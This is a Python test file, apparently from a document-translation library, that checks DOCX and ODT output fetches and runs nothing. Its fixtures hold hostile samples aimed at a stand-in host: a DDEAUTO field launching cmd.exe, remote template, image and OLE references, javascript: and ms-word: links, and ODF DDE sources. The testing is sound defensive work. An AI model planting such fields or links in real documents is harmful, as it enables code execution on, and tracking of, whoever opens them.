"""A download fetches and runs nothing when it is opened, and what it links to can be followed without harm."""

import pytest
from tests.library.made_documents import NAMESPACES, R, by_key, docx, odt, packed, paragraph, run, unpacked

from uramost import documents
from uramost.documents import Refused

RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
ELSEWHERE = b"evil.example"


def relation(number: int, kind: str, target: str) -> str:
    return f'<Relationship Id="x{number}" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'


def field(*instruction: str, shown: str = "Shihet kjo.") -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction)
    return mark("begin") + pieces + mark("separate") + run(shown) + mark("end")


def written(data: bytes, filename: str) -> dict[str, bytes]:
    source = documents.read(data, filename)
    out = documents.write(data, source.format, by_key(source), "sq")
    assert by_key(documents.read(out, filename)) == by_key(source)
    return unpacked(out)


def test_a_docx_names_no_template_picture_or_object_elsewhere():
    parts = unpacked(docx(paragraph(run("Njoftim për banorët."))))
    outside = [
        relation(1, "image", "http://evil.example/seen.png"),
        relation(2, "oleObject", "http://evil.example/run.doc"),
        relation(3, "frame", "file://evil.example/share/x"),
    ]
    name = "word/_rels/document.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", "".join(outside).encode() + b"</Relationships>")
    parts["word/settings.xml"] = f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="x4"/></w:settings>'.encode()
    template = relation(4, "attachedTemplate", "https://evil.example/t.dotm")
    parts["word/_rels/settings.xml.rels"] = f'<Relationships xmlns="{RELATIONS}">{template}</Relationships>'.encode()

    out = written(packed(parts), "njoftim.docx")

    assert not [part for part, content in out.items() if ELSEWHERE in content]
    assert out[name].count(b"about:blank") == 3
    assert out.keys() == parts.keys()


@pytest.mark.parametrize(
    ("address", "stays"),
    [
        ("https://kk.rks-gov.net/prishtine", True),
        ("mailto:komuna@example.org", True),
        ("tel:+38338200000", True),
        ("javascript:alert(1)", False),
        ("file:///C:/Windows/System32/calc.exe", False),
        ("ms-word:ofe|u|https://evil.example/x.docx", False),
    ],
)
def test_a_link_is_kept_where_it_can_be_followed_without_harm(address, stays):
    body = paragraph(f'<w:hyperlink r:id="link">{run("Lexo më shumë.")}</w:hyperlink>', run(" Fund."))
    out = written(docx(body, links={"link": address}), "a.docx")
    assert (f'Target="{address}"'.encode() in out["word/_rels/document.xml.rels"]) is stays

    odf = f'<text:p><text:a xlink:href="{address}">Lexo më shumë.</text:a> Fund.</text:p>'
    assert (address.encode() in written(odt(odf), "a.odt")["content.xml"]) is stays


@pytest.mark.parametrize(
    "instruction",
    [
        ("DDEAUTO c:\\\\windows\\\\cmd.exe evil.example",),
        ("DD", "EAUTO cmd ", "evil.example"),
        (' INCLUDEPICTURE "http://evil.example/seen.png" \\d ',),
        (' includetext "\\\\\\\\evil.example\\\\x" ',),
        (' HYPERLINK "javascript:evil.example" ',),
    ],
)
def test_a_field_keeps_what_it_shows_and_fetches_nothing(instruction):
    out = written(docx(paragraph(run("Para. "), field(*instruction), run(" Pas."))), "a.docx")["word/document.xml"]
    assert ELSEWHERE not in out
    assert b"Shihet kjo." in out


def test_other_fields_stay_as_they_are():
    kept = (" PAGE \\* MERGEFORMAT ", ' HYPERLINK "https://example.org/a" ', ' HYPERLINK \\l "pjesa" ', " REF x \\h ")
    body = "".join(paragraph(run("Para. "), field(text), run(" Pas.")) for text in kept)
    body += paragraph(run("Data: "), f'<w:fldSimple w:instr=" DATE ">{run("sot")}</w:fldSimple>')
    data = docx(body)
    assert written(data, "a.docx")["word/document.xml"] == unpacked(data)["word/document.xml"]


def test_a_simple_field_fetches_nothing_either():
    body = paragraph(run("Para. "), f'<w:fldSimple w:instr=" LINK evil.example ">{run("sot")}</w:fldSimple>')
    assert ELSEWHERE not in written(docx(body), "a.docx")["word/document.xml"]


@pytest.mark.parametrize(
    ("inside", "part"),
    [
        ('<draw:frame><draw:image xlink:href="http://evil.example/a.png"/></draw:frame>', ""),
        ('<draw:frame><draw:image xlink:href="//evil.example/a.png"/></draw:frame>', ""),
        ('<draw:frame><draw:object xlink:href="../evil.example/a.ods"/></draw:frame>', ""),
        (
            "",
            '<text:section><text:section-source xlink:href="file:///evil.example"/><text:p>A.</text:p></text:section>',
        ),
        ("", '<text:section><office:dde-source office:dde-topic="evil.example"/><text:p>A.</text:p></text:section>'),
    ],
)
def test_an_odt_fetches_nothing(inside, part):
    out = written(odt(f"<text:p>Njoftim {inside}për banorët.</text:p>{part}"), "a.odt")
    assert ELSEWHERE not in out["content.xml"]


def test_a_picture_inside_an_odt_stays():
    body = '<text:p>Njoftim <draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>.</text:p>'
    out = written(odt(body, extra={"Pictures/a.png": b"picture"}), "a.odt")
    assert b'xlink:href="Pictures/a.png"' in out["content.xml"]
    assert out["Pictures/a.png"] == b"picture"


def test_controls_that_run_are_refused_as_macros_are():
    parts = unpacked(docx(paragraph(run("Njoftim."))))
    parts["word/activeX/activeX1.bin"] = b"\0"
    with pytest.raises(Refused, match="macros"):
        documents.read(packed(parts), "a.docx")
